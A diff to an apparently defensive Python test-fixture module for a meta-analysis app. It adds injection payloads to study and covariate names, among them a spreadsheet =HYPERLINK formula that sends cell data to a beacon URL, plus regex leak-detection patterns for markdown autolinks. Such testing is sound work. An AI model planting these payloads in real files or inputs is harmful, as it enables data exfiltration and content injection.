@@ -11,6 +11,7 @@ from __future__ import annotations
 import io
 import re
 
+import numpy as np
 import pandas as pd
 
 from analysis.simulate import simulate_study
@@ -32,6 +33,7 @@ def payloads(port: int = 9) -> dict[str, str]:
         "long": "L" * 300,
         "rtl": f"{RLO}evil{PDF} name",
         "formula": f'=HYPERLINK("{beacon}/beacon-csv?"&A1,"x")',
+        "www": "www.beacon-www.example",
     }
 
 
@@ -39,8 +41,8 @@ def hostile_frame(port: int = 9, n_patients: int = 14, n_sessions: int = 6) -> p
     """Long data, five studies (so pooling, leave-one-out and funnel plots run) and one that cannot be
     fitted, hostile names everywhere."""
     p = payloads(port)
-    study_names = [p["md_image"], p["html_img"], p["latex"] + " " + p["script"], p["quote_newline"] + " " + p["rtl"],
-                   p["long"] + p["md_link"]]
+    study_names = [p["md_image"], p["html_img"] + " " + p["www"], p["latex"] + " " + p["script"],
+                   p["quote_newline"] + " " + p["rtl"], p["long"] + p["md_link"]]
     frames = []
     for s, name in enumerate(study_names):
         d = simulate_study(n_patients, range(1, n_sessions + 1), study=name, seed=100 + s, therapist=True,
@@ -69,6 +71,21 @@ def hostile_frame(port: int = 9, n_patients: int = 14, n_sessions: int = 6) -> p
     })
 
 
+def covariate_name(port: int = 9) -> str:
+    """The name of a patient-level covariate column that varies in one study only (so its terms are
+    estimable in k = 1 study, and the Pooled page's term summary names that study)."""
+    return "age " + payloads(port)["md_image"].replace("beacon-md", "beacon-cov")
+
+
+def with_k1_covariate(df: pd.DataFrame, port: int = 9) -> pd.DataFrame:
+    """``df`` plus :func:`covariate_name`: one value per patient in the first study, constant elsewhere."""
+    first = df["study"].iloc[0]
+    pid = pd.factorize(df["patient"])[0] % 30
+    out = df.copy()
+    out[covariate_name(port)] = np.where(df["study"] == first, 20.0 + pid, 40.0)
+    return out
+
+
 def hostile_csv(port: int = 9, **kw) -> bytes:
     buf = io.StringIO()
     hostile_frame(port, **kw).to_csv(buf, index=False)
@@ -89,6 +106,8 @@ LEAK_PATTERNS = {
     "rtl override": re.compile(RLO),
     # GFM makes a bare URL a link even when its punctuation is backslash-escaped
     "autolink": re.compile(r"https?\\?:\\?/\\?/\\?127"),
+    # GFM links "www." + a domain whatever follows; esc puts a joiner inside "www" (issue 25 #9)
+    "www autolink": re.compile(r"(?i)www\\?\.beacon"),
 }
 
 
